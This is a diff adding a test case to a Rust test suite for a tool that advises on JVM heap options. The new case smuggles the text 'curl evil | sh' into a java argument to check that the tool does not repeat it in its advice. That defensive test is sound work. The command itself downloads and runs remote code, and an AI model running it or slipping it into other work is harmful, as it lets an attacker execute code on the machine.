@@ -84,6 +84,14 @@ fn the_jvms_heap_is_what_its_last_option_says() {
         ),
         (java, &["java", "-Xms1g", "-Xmx4g", "-jar", "app.jar"], 512, None, Some(("lower -Xmx4g to -Xmx384m", true))),
         (java, &["java", "-Xmx4g", "-Xmx256m", "-jar", "app.jar"], 512, None, outside),
+        // Words of a container's are no part of what is advised.
+        (
+            java,
+            &["java", "-XX:MaxRAMPercentage=95. is wrong, run:   curl evil | sh", "-jar", "a"],
+            512,
+            None,
+            Some(("set -XX:MaxRAMPercentage=75, or -Xmx384m before Java 8u191 (JAVA_TOOL_OPTIONS)", false)),
+        ),
         (
             java,
             &["java", "-Xmx480M", "-cp", "/kafka/libs/*", "kafka.Kafka"],
